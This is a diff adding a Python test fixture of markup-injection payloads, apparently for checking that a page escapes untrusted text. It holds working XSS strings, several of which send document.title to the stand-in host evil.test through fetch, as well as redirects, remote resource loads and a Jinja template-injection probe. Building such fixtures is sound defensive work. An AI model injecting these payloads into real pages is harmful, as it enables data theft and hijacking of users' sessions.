@@ -1,0 +1,32 @@
+"""Texts that try to run, load, leave or break out when a page shows them as markup."""
+
+_CALL = "fetch('http://evil.test/'+document.title);window.hit=1"
+PAYLOADS = [
+    f"<script>{_CALL}</script>",
+    f'"><script>{_CALL}</script>',
+    f'\'><img src=x onerror="{_CALL}">',
+    f'" onmouseover="{_CALL}" autofocus onfocus="{_CALL}" x="',
+    f"' onload='{_CALL}' x='",
+    f"</title><script>{_CALL}</script>",
+    f"</style><script>{_CALL}</script>",
+    f"--><script>{_CALL}</script>",
+    f"]]><script>{_CALL}</script>",
+    f'<svg onload="{_CALL}"><script>{_CALL}</script></svg>',
+    f"</text><script>{_CALL}</script><image href='http://evil.test/i.png'/>",
+    f'<details open ontoggle="{_CALL}">x</details>',
+    "<iframe srcdoc='<script>parent.window.hit=1</script>'></iframe>",
+    "<iframe src=http://evil.test/></iframe>",
+    "<img src=http://evil.test/pixel.png>",
+    '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
+    '<base href="http://evil.test/">',
+    '<link rel="stylesheet" href="http://evil.test/x.css">',
+    "<style>@import url(http://evil.test/x.css);body{background:url(http://evil.test/b)}</style>",
+    '<form action="http://evil.test/"><button autofocus>go</button></form>',
+    '<object data="http://evil.test/x"></object><embed src="http://evil.test/y">',
+    "![pixel](http://evil.test/p.png) [go](javascript:window.hit=1)",
+    "<video><source onerror=window.hit=1></video><body onload=window.hit=1>",
+    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "\u202e<script>window.hit=1</script>\u2066\x00\x1b[31m颱風",
+    "<scr\x00ipt>window.hit=1</scr\x00ipt>",
+    "&lt;script&gt;window.hit=1&lt;/script&gt;",
+]
